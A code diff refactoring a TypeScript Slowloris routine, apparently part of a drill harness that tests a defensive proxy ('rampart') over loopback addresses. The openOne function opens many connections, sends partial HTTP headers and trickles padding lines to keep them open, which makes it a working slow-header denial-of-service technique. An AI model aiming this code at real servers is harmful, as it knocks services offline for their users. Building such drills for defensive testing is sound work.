@@ -22,42 +22,6 @@ export async function runSlowloris(o: SlowlorisOptions): Promise<void> {
   let credit = 0;
   let last = o.start;
   await sleepUntil(o.start);
-
-  const openOne = (): void => {
-    const n = seq++;
-    const i = n % o.sources;
-    const sentAt = Date.now();
-    o.recorder.slowOpened++;
-    const s = connect({ host: o.target.hostname, port: o.target.port, localAddress: loopbackSource('attack', i) });
-    open.set(s, sentAt);
-    if (open.size > o.recorder.slowPeak) o.recorder.slowPeak = open.size;
-    let reply = '';
-    let lines = 0;
-    const h = o.scenario.headers(i);
-    let head = `GET /?slow=${n} HTTP/1.1\r\nHost: ${o.target.host}\r\nx-drill-role: attack\r\n`;
-    for (let k = 0; k < h.length; k += 2) head += `${h[k]}: ${h[k + 1]}\r\n`;
-    if (o.xffOf) head += `x-forwarded-for: ${o.xffOf(i)}\r\n`;
-    const timer = setInterval(() => s.write(`x-pad-${lines++}: ${lines}\r\n`), TRICKLE_MS);
-    let connected = false;
-    let error = '';
-    s.setNoDelay(true);
-    s.on('connect', () => ((connected = true), s.write(head)));
-    s.on('data', (d) => {
-      if (reply.length < 512) reply += d.toString('latin1');
-    });
-    s.on('error', (e: NodeJS.ErrnoException) => (error = e.code ?? 'error'));
-    s.on('close', () => {
-      clearInterval(timer);
-      if (!open.delete(s)) return; // our own teardown, already counted
-      // Never connected (the target not listening yet, or restarting): an error, not a close.
-      if (!connected) return void o.recorder.attackResult(sentAt, false, `error/${error || 'not-connected'}`, true);
-      o.recorder.slowClosedByTarget++;
-      const status = /^HTTP\/1\.[01] (\d{3})/.exec(reply)?.[1];
-      const verdict = /\r\nrampart-verdict: ([^\r]+)/i.exec(reply)?.[1];
-      o.recorder.attackResult(sentAt, false, verdict ?? (status ? `status/${status}` : 'closed-by-target'), false);
-    });
-  };
-
   let nextSample = o.start + 1000;
   while (Date.now() < o.until) {
     const now = Date.now();
@@ -69,7 +33,7 @@ export async function runSlowloris(o: SlowlorisOptions): Promise<void> {
     last = now;
     while (credit >= 1 && open.size < maxOpen) {
       credit--;
-      openOne();
+      openOne(o, open, seq++);
     }
     if (open.size >= maxOpen) credit = 0;
     await new Promise((r) => setTimeout(r, 10));
@@ -78,6 +42,49 @@ export async function runSlowloris(o: SlowlorisOptions): Promise<void> {
   for (const sock of open.keys()) sock.destroy();
   open.clear();
   await new Promise((r) => setImmediate(r));
+}
+
+/** Opens slow connection `n` from source n % sources; it stays in `open` until the target closes it. */
+function openOne(o: SlowlorisOptions, open: Map<Socket, number>, n: number): void {
+  const i = n % o.sources;
+  const sentAt = Date.now();
+  o.recorder.slowOpened++;
+  const s = connect({ host: o.target.hostname, port: o.target.port, localAddress: loopbackSource('attack', i) });
+  open.set(s, sentAt);
+  if (open.size > o.recorder.slowPeak) o.recorder.slowPeak = open.size;
+  let reply = '';
+  let lines = 0;
+  const h = o.scenario.headers(i);
+  let head = `GET /?slow=${n} HTTP/1.1\r\nHost: ${o.target.host}\r\nx-drill-role: attack\r\n`;
+  for (let k = 0; k < h.length; k += 2) head += `${h[k]}: ${h[k + 1]}\r\n`;
+  if (o.xffOf) head += `x-forwarded-for: ${o.xffOf(i)}\r\n`;
+  const timer = setInterval(() => s.write(`x-pad-${lines++}: ${lines}\r\n`), TRICKLE_MS);
+  let connected = false;
+  let error = '';
+  s.setNoDelay(true);
+  s.on('connect', () => {
+    connected = true;
+    s.write(head);
+  });
+  s.on('data', (d) => {
+    if (reply.length < 512) reply += d.toString('latin1');
+  });
+  s.on('error', (e: NodeJS.ErrnoException) => {
+    error = e.code ?? 'error';
+  });
+  s.on('close', () => {
+    clearInterval(timer);
+    if (!open.delete(s)) return; // our own teardown, already counted
+    // Never connected (the target not listening yet, or restarting): an error, not a close.
+    if (!connected) {
+      o.recorder.attackResult(sentAt, false, `error/${error || 'not-connected'}`, true);
+      return;
+    }
+    o.recorder.slowClosedByTarget++;
+    const status = /^HTTP\/1\.[01] (\d{3})/.exec(reply)?.[1];
+    const verdict = /\r\nrampart-verdict: ([^\r]+)/i.exec(reply)?.[1];
+    o.recorder.attackResult(sentAt, false, verdict ?? (status ? `status/${status}` : 'closed-by-target'), false);
+  });
 }
 
 /** Records, for the second containing `at`, the connections open and those open ≥ HOLD_MS. */
